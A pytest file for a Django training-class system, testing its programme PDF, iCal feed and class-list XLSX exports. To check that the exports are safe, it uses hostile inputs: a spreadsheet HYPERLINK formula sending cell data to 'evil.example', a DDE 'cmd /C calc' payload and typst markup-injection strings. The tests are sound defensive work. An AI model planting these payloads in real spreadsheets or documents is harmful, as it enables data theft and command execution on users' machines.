"""Downloads of classes: programme PDF, iCal feeds, class list XLSX."""

from __future__ import annotations

import datetime
import html
import io
import re
import shutil
import subprocess
import zipfile
from typing import Any

import icalendar
import openpyxl  # type: ignore[import-untyped]
import pytest
from django.test import Client
from django.urls import reverse

from core.roles import Role
from core.tokens import new_token
from courses import documents, services
from courses.models import Course, Session
from courses.xlsx import LiteralText, safe_cell, write_table
from people.models import Lecturer
from tests.conftest import client_for
from tests.course_helpers import D, make_course, make_lecturer, make_topic
from tests.factories import OrganizationFactory, UserFactory

pytestmark = pytest.mark.django_db

T = datetime.time
HOSTILE = 'Lớp #set page(width: 1cm) *đậm* _nghiêng_ $x^2$ [a] <nhãn> @ref \\ #import "/etc" `x`'


def _session(course: Course, day: datetime.date, half: str, kind: str, **extra: Any) -> Session:
    return services.session_create(
        actor=None, course=course, date=day, half_day=half, kind=kind, **extra
    )


@pytest.fixture
def lecturers(owner_org: Any) -> tuple[Lecturer, Lecturer]:
    school = OrganizationFactory(
        name="Trung tâm Chính trị huyện Bù Đăng", kind="school", territory=owner_org.territory
    )
    hung = make_lecturer(owner_org)
    lan = services.lecturer_create(
        actor=None,
        owner=owner_org,
        full_name="Trần Thị Lan",
        academic_title="ThS",
        position="Giám đốc",
        organization=school,
    )
    return hung, lan


@pytest.fixture
def programme(owner_org: Any, lecturers: tuple[Lecturer, Lecturer]) -> Course:
    """A three-day class laid out like a real programme (scenario 5 of DESIGN.md)."""
    hung, lan = lecturers
    course = make_course(
        owner_org,
        title="Lớp bồi dưỡng nghiệp vụ công tác dân vận năm 2022",
        venue="Hội trường Trung tâm Chính trị huyện Bù Đăng",
    )
    topics = [
        make_topic(owner_org, "Công tác dân vận trong tình hình mới"),
        make_topic(owner_org, "Xây dựng và thực hiện quy chế dân chủ ở cơ sở"),
        make_topic(owner_org, "Phong trào thi đua “Dân vận khéo”"),
    ]
    day1, day2, day3 = D(2022, 5, 25), D(2022, 5, 26), D(2022, 5, 27)
    _session(course, day1, "morning", "opening", start_time=T(7, 30), end_time=T(8, 15))
    _session(
        course,
        day1,
        "morning",
        "lecture",
        start_time=T(8, 30),
        end_time=T(11, 30),
        topic=topics[0],
        lecturers=[hung],
        room="Phòng 1",
    )
    _session(course, day1, "afternoon", "lecture", topic=topics[0], lecturers=[hung])
    _session(course, day2, "morning", "lecture", topic=topics[1], lecturers=[lan])
    _session(course, day2, "afternoon", "lecture", topic=topics[2], lecturers=[hung, lan])
    _session(course, day3, "morning", "discussion")
    _session(course, day3, "afternoon", "assignment", start_time=T(13, 30), end_time=T(15, 30))
    _session(course, day3, "afternoon", "closing", start_time=T(15, 45), end_time=T(16, 30))
    return course


def _pdf_text(pdf: bytes) -> str | None:
    """The page text through poppler's pdftotext, when the machine has it."""
    pdftotext = shutil.which("pdftotext")
    if pdftotext is None:
        return None
    result = subprocess.run(  # noqa: S603 - a fixed command reading our own bytes
        [pdftotext, "-", "-"], input=pdf, capture_output=True, check=True
    )
    return result.stdout.decode()


def _xmp_title(pdf: bytes) -> str:
    """The document title typst writes into the XMP metadata (plain XML)."""
    match = re.search(rb"<dc:title>.*?<rdf:li[^>]*>(.*?)</rdf:li>", pdf, re.S)
    assert match is not None
    return html.unescape(match.group(1).decode())


# --- programme PDF -------------------------------------------------------------------


def test_programme_pdf(member: Any, programme: Course) -> None:
    response = client_for(member).get(reverse("exports:programme_pdf", args=[programme.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("inline;") and disposition.isascii()
    assert f"chuong-trinh-{programme.pk}-lop-boi-duong" in disposition
    pdf = response.content
    assert pdf.startswith(b"%PDF-")
    assert programme.title in _xmp_title(pdf)
    text = _pdf_text(pdf)
    if text is not None:
        flat = " ".join(text.split())
        for expected in (
            "HUYỆN ỦY BÙ ĐĂNG",
            "BAN DÂN VẬN",
            "ĐẢNG CỘNG SẢN VIỆT NAM",
            "CHƯƠNG TRÌNH",
            "từ ngày 25/05/2022 đến ngày 27/05/2022",
            "Hội trường Trung tâm Chính trị huyện Bù Đăng",
            "Thứ Tư",
            "07:30 – 08:15",
            "Chuyên đề 1 (tiếp):",
            "TS. Nguyễn Văn Hùng",
            "ThS. Trần Thị Lan",
            "Giám đốc, Trung tâm Chính trị huyện Bù Đăng",
        ):
            assert expected in flat, expected


def test_programme_groups_days_and_numbers_topics(programme: Course) -> None:
    from courses.selectors import course_sessions

    data = documents.programme_data(programme, list(course_sessions(programme)))
    assert [d["date"] for d in data["days"]] == ["25/05/2022", "26/05/2022", "27/05/2022"]
    first_day = data["days"][0]
    assert [h["label"] for h in first_day["halves"]] == ["Sáng", "Chiều"]
    prefixes = [
        s["prefix"] for day in data["days"] for half in day["halves"] for s in half["sessions"]
    ]
    assert prefixes == [
        "",
        "Chuyên đề 1:",
        "Chuyên đề 1 (tiếp):",
        "Chuyên đề 2:",
        "Chuyên đề 3:",
        "",
        "",
        "",
    ]
    assert (data["header_superior"], data["header_org"]) == ("HUYỆN ỦY BÙ ĐĂNG", "BAN DÂN VẬN")
    assert first_day["halves"][0]["sessions"][1]["notes"] == ["Địa điểm: Phòng 1"]


def test_programme_pdf_outside_scope_is_404(outsider: Any, programme: Course) -> None:
    url = reverse("exports:programme_pdf", args=[programme.pk])
    client = client_for(outsider)
    assert client.get(url).status_code == 404
    assert client.get(reverse("exports:programme_pdf", args=[999999])).status_code == 404
    anonymous = Client().get(url)
    assert anonymous.status_code == 302 and reverse("accounts:login") in anonymous["Location"]


def test_programme_pdf_prints_hostile_text_verbatim(
    owner: Any, owner_org: Any, lecturers: tuple[Lecturer, Lecturer]
) -> None:
    course = make_course(owner_org, title=HOSTILE, venue="#pagebreak() ] ) } \\")
    _session(course, course.start_date, "morning", "other", title=HOSTILE, room="$ $ <x>")
    response = client_for(owner).get(reverse("exports:programme_pdf", args=[course.pk]))
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")
    assert HOSTILE in _xmp_title(response.content)
    text = _pdf_text(response.content)
    if text is not None:
        flat = " ".join(text.split())
        assert "*đậm* _nghiêng_ $x^2$" in flat and "#set page" in flat


def test_programme_pdf_of_empty_and_cancelled_class(owner: Any, owner_org: Any) -> None:
    course = make_course(owner_org, title="Hội nghị tập huấn", days=1)
    services.course_transition(
        actor=None, course=course, to_status="cancelled", reason="Hoãn do bão"
    )
    response = client_for(owner).get(reverse("exports:programme_pdf", args=[course.pk]))
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")
    text = _pdf_text(response.content)
    if text is not None:
        assert "Chưa có buổi học nào." in text and "Hoãn do bão" in text


def test_programme_pdf_query_count_is_constant(
    member: Any, programme: Course, django_assert_max_num_queries: Any
) -> None:
    client = client_for(member)
    with django_assert_max_num_queries(12):
        response = client.get(reverse("exports:programme_pdf", args=[programme.pk]))
    assert response.status_code == 200


def test_lecturer_reads_programme_of_own_class(
    programme: Course, lecturers: tuple[Lecturer, Lecturer], owner_org: Any
) -> None:
    user: Any = UserFactory(username="bcv", organization=owner_org, roles=[Role.LECTURER])
    hung = lecturers[0]
    hung.user = user
    hung.save(update_fields=["user"])
    other = make_course(owner_org, title="Lớp khác", start=D(2023, 1, 1))
    client = client_for(user)
    assert client.get(reverse("exports:programme_pdf", args=[programme.pk])).status_code == 200
    assert client.get(reverse("exports:programme_pdf", args=[other.pk])).status_code == 404


# --- iCal feeds ----------------------------------------------------------------------


def _calendar(response: Any) -> icalendar.Calendar:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    assert "private" in response["Cache-Control"]
    return icalendar.Calendar.from_ical(response.content)


def test_course_feed_is_public_by_token(programme: Course) -> None:
    response = Client().get(reverse("feeds:course_ics", args=[programme.feed_token]))
    calendar = _calendar(response)
    assert str(calendar["X-WR-CALNAME"]) == programme.title
    events = calendar.walk("VEVENT")
    sessions = list(programme.sessions.order_by("starts_at", "pk"))
    assert len(events) == len(sessions) == 8
    for event, session in zip(events, sessions, strict=True):
        assert str(event["UID"]) == f"session-{session.pk}@taphuan"
        assert event.decoded("DTSTART") == session.starts_at
        assert event.decoded("DTEND") == session.ends_at
        assert event.decoded("DTSTART").utcoffset() == datetime.timedelta(0)
        assert str(event["SUMMARY"]) == f"{session.label} – {programme.title}"
        assert str(event["STATUS"]) == "TENTATIVE"  # a draft class
    second = events[1]
    assert str(second["LOCATION"]) == "Hội trường Trung tâm Chính trị huyện Bù Đăng, Phòng 1"
    assert "TS. Nguyễn Văn Hùng (Chánh Văn phòng)" in str(second["DESCRIPTION"])
    assert "ThS. Trần Thị Lan (Giám đốc, Trung tâm Chính trị huyện Bù Đăng)" in str(
        events[4]["DESCRIPTION"]
    )
    assert str(second["URL"]).endswith(programme.get_absolute_url())
    # 07:30 in Hà Nội is 00:30 UTC.
    assert b"DTSTART:20220525T003000Z" in response.content


def test_feed_tokens_are_checked(programme: Course, lecturers: tuple[Lecturer, Lecturer]) -> None:
    client = Client()
    for token in (
        new_token(),  # well-formed but unknown
        programme.feed_token[:-1],  # too short
        programme.feed_token[:-1] + "!",  # not URL-safe base64
        lecturers[0].feed_token,  # another kind of token
    ):
        assert client.get(reverse("feeds:course_ics", args=[token])).status_code == 404
    assert client.get(reverse("feeds:lecturer_ics", args=[new_token()])).status_code == 404
    assert client.get(reverse("feeds:lecturer_ics", args=[programme.feed_token])).status_code == 404
    assert client.post(reverse("feeds:course_ics", args=[programme.feed_token])).status_code == 405


def test_cancelled_class_feed_marks_sessions_cancelled(programme: Course) -> None:
    services.course_transition(
        actor=None, course=programme, to_status="cancelled", reason="Trùng lịch hội nghị"
    )
    calendar = _calendar(Client().get(reverse("feeds:course_ics", args=[programme.feed_token])))
    events = calendar.walk("VEVENT")
    assert len(events) == 8
    assert {str(e["STATUS"]) for e in events} == {"CANCELLED"}
    assert all(str(e["SUMMARY"]).startswith("[Đã huỷ]") for e in events)


def test_running_class_feed_is_confirmed(programme: Course) -> None:
    services.course_transition(actor=None, course=programme, to_status="approved")
    calendar = _calendar(Client().get(reverse("feeds:course_ics", args=[programme.feed_token])))
    assert {str(e["STATUS"]) for e in calendar.walk("VEVENT")} == {"CONFIRMED"}


def test_lecturer_feed_spans_classes(
    programme: Course, lecturers: tuple[Lecturer, Lecturer], outsider_org: Any
) -> None:
    hung = lecturers[0]
    # A central lecturer also teaches for the neighbouring district.
    elsewhere = make_course(outsider_org, title="Lớp của Lộc Ninh", start=D(2022, 6, 1), days=1)
    topic = make_topic(outsider_org, "Bảo vệ nền tảng tư tưởng của Đảng trên không gian mạng")
    _session(elsewhere, elsewhere.start_date, "morning", "lecture", topic=topic, lecturers=[hung])
    response = Client().get(reverse("feeds:lecturer_ics", args=[hung.feed_token]))
    calendar = _calendar(response)
    assert "TS. Nguyễn Văn Hùng" in str(calendar["X-WR-CALNAME"])
    events = calendar.walk("VEVENT")
    taught = Session.objects.filter(lecturers=hung).order_by("starts_at", "pk")
    assert [str(e["UID"]) for e in events] == [f"session-{s.pk}@taphuan" for s in taught]
    assert len(events) == 4
    titles = {str(e["SUMMARY"]).split(" – ", 1)[1] for e in events}
    assert titles == {programme.title, elsewhere.title}


def test_feed_query_counts_are_constant(
    programme: Course,
    lecturers: tuple[Lecturer, Lecturer],
    owner_org: Any,
    django_assert_max_num_queries: Any,
) -> None:
    hung = lecturers[0]
    client = Client()
    for course in (programme, make_course(owner_org, title="Lớp 2", start=D(2022, 7, 4))):
        for i in range(3):
            day = course.start_date + datetime.timedelta(days=i)
            for half in ("morning", "afternoon", "evening"):
                if course.sessions.filter(date=day, half_day=half).exists():
                    continue
                _session(course, day, half, "lecture", title=f"Buổi {half}", lecturers=[hung])
    assert programme.sessions.count() > 8
    with django_assert_max_num_queries(4):
        response = client.get(reverse("feeds:course_ics", args=[programme.feed_token]))
    assert len(_calendar(response).walk("VEVENT")) == programme.sessions.count()
    with django_assert_max_num_queries(4):
        response = client.get(reverse("feeds:lecturer_ics", args=[hung.feed_token]))
    assert len(_calendar(response).walk("VEVENT")) == hung.sessions.count() > 10


def test_feed_etag_answers_not_modified_until_the_programme_changes(programme: Course) -> None:
    client = Client()
    url = reverse("feeds:course_ics", args=[programme.feed_token])
    first = client.get(url)
    etag = first["ETag"]
    assert etag.startswith('"')
    # DTSTAMP moves with every request; the ETag only with the events.
    again = client.get(url, headers={"if-none-match": etag})
    assert again.status_code == 304 and again.content == b""
    session = programme.sessions.order_by("starts_at", "pk").first()
    assert session is not None
    Session.objects.filter(pk=session.pk).update(room="Phòng 9")
    changed = client.get(url, headers={"if-none-match": etag})
    assert changed.status_code == 200 and changed["ETag"] != etag
    assert str(_calendar(changed).walk("VEVENT")[0]["LOCATION"]).endswith("Phòng 9")


# --- class list XLSX -----------------------------------------------------------------

HEADERS = [
    "Tên lớp",
    "Loại",
    "Cấp",
    "Đơn vị tổ chức",
    "Địa điểm",
    "Từ ngày",
    "Đến ngày",
    "Số học viên dự kiến",
    "Số học viên thực tế",
    "Trạng thái",
    "Kế hoạch",
]


def _sheet(response: Any) -> list[list[Any]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith("attachment;")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return [[cell.value for cell in row] for row in workbook.active.iter_rows()]


def test_course_list_xlsx(member: Any, owner_org: Any, outsider_org: Any) -> None:
    mine = make_course(owner_org, title="Lớp bồi dưỡng Dân vận khéo", capacity=59)
    make_course(outsider_org, title="Lớp của Lộc Ninh")
    rows = _sheet(client_for(member).get(reverse("exports:course_list_xlsx")))
    assert rows[0] == HEADERS
    assert rows[1:] == [
        [
            mine.title,
            "Lớp bồi dưỡng nghiệp vụ",
            "Huyện, quận, thị xã",
            "Ban Dân vận Huyện ủy Bù Đăng",
            "Hội trường Huyện ủy",
            datetime.datetime(2022, 5, 25),
            datetime.datetime(2022, 5, 27),
            59,
            None,
            "Dự thảo",
            None,
        ]
    ]
    workbook = openpyxl.load_workbook(
        io.BytesIO(client_for(member).get(reverse("exports:course_list_xlsx")).content)
    )
    assert workbook.active["F2"].number_format == "DD/MM/YYYY"
    assert workbook.active.freeze_panes == "A2"


def test_course_list_xlsx_of_outsider_lacks_foreign_classes(
    outsider: Any, owner_org: Any, outsider_org: Any
) -> None:
    make_course(owner_org, title="Lớp của Bù Đăng")
    make_course(outsider_org, title="Lớp của Lộc Ninh")
    rows = _sheet(client_for(outsider).get(reverse("exports:course_list_xlsx")))
    titles = [row[0] for row in rows[1:]]
    assert titles == ["Lớp của Lộc Ninh"]
    assert "Bù Đăng" not in str(rows)


def test_course_list_xlsx_filters_like_the_list_page(member: Any, owner_org: Any) -> None:
    make_course(owner_org, title="Lớp bồi dưỡng Dân vận khéo")
    make_course(owner_org, title="Hội nghị tập huấn", start=D(2021, 3, 1))
    url = reverse("exports:course_list_xlsx")
    client = client_for(member)
    assert [r[0] for r in _sheet(client.get(url, {"q": "dan van kheo"}))[1:]] == [
        "Lớp bồi dưỡng Dân vận khéo"
    ]
    assert [r[0] for r in _sheet(client.get(url, {"year": "2021"}))[1:]] == ["Hội nghị tập huấn"]
    # Bad values are ignored, not fatal.
    bad = {"year": "abc", "owner": "x", "topic": "999999", "unit": "-1", "plan": "1e9"}
    assert len(_sheet(client.get(url, bad))) == 3


def test_course_list_xlsx_neutralises_formulas(member: Any, owner_org: Any) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    make_course(owner_org, title=evil, venue="@SUM(1+1)")
    response = client_for(member).get(reverse("exports:course_list_xlsx"))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    title, venue = workbook.active["A2"], workbook.active["E2"]
    assert title.value == evil and title.data_type == "s" and title.quotePrefix
    assert venue.value == "@SUM(1+1)" and venue.data_type == "s" and venue.quotePrefix
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_course_list_xlsx_needs_login_and_role(owner_org: Any) -> None:
    url = reverse("exports:course_list_xlsx")
    response = Client().get(url)
    assert response.status_code == 302 and reverse("accounts:login") in response["Location"]
    trainee = UserFactory(username="hocvien", organization=owner_org, roles=[Role.TRAINEE])
    assert client_for(trainee).get(url).status_code == 403


def test_course_list_xlsx_query_count_is_constant(
    member: Any, owner_org: Any, django_assert_max_num_queries: Any
) -> None:
    for i in range(25):
        make_course(owner_org, title=f"Lớp {i}", start=D(2022, 1, 1) + datetime.timedelta(days=i))
    client = client_for(member)
    with django_assert_max_num_queries(8):
        response = client.get(reverse("exports:course_list_xlsx"))
    assert len(_sheet(response)) == 26


@pytest.mark.parametrize(
    "text", ["=1+1", "+84 912 345 678", "-2", "@SUM(A1)", "\t=1", "\r=1", '=cmd|" /C calc"!A0']
)
def test_safe_cell_marks_formula_text(text: str) -> None:
    value = safe_cell(text)
    assert isinstance(value, LiteralText) and value == text


def test_safe_cell_leaves_other_values() -> None:
    assert type(safe_cell("Lớp bồi dưỡng")) is str
    assert safe_cell("a\x00b\x07c") == "abc"
    assert safe_cell(5) == 5 and safe_cell(None) is None
    assert safe_cell(D(2022, 5, 25)) == D(2022, 5, 25)
    assert len(str(safe_cell("x" * 40_000))) == 32_767


def test_write_table_round_trips() -> None:
    content = write_table(
        ["A", "B"], [["=1+1", D(2022, 5, 25)], ["x", None]], sheet_title="Danh sách [1]"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook.active
    assert sheet.title == "Danh sách  1"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["A", "B"],
        ["=1+1", datetime.datetime(2022, 5, 25)],
        ["x", None],
    ]
    assert sheet["A2"].data_type == "s"


@pytest.mark.parametrize(
    ("name", "lines"),
    [
        ("Ban Dân vận Huyện ủy Bù Đăng", ("HUYỆN ỦY BÙ ĐĂNG", "BAN DÂN VẬN")),
        (
            "Ban Tuyên giáo và Dân vận Tỉnh uỷ Đồng Nai",
            ("TỈNH UỶ ĐỒNG NAI", "BAN TUYÊN GIÁO VÀ DÂN VẬN"),
        ),
        ("Ban Dân vận Trung ương", ("", "BAN DÂN VẬN TRUNG ƯƠNG")),
        ("Trung tâm Chính trị huyện Bù Đăng", ("", "TRUNG TÂM CHÍNH TRỊ HUYỆN BÙ ĐĂNG")),
    ],
)
def test_header_lines(name: str, lines: tuple[str, str]) -> None:
    assert documents.header_lines(name) == lines


def test_feed_events_carry_the_generation_stamp(programme: Course) -> None:
    before = datetime.datetime.now(datetime.UTC).replace(microsecond=0)
    calendar = _calendar(Client().get(reverse("feeds:course_ics", args=[programme.feed_token])))
    stamps = {e.decoded("DTSTAMP") for e in calendar.walk("VEVENT")}
    assert len(stamps) == 1 and stamps.pop() >= before
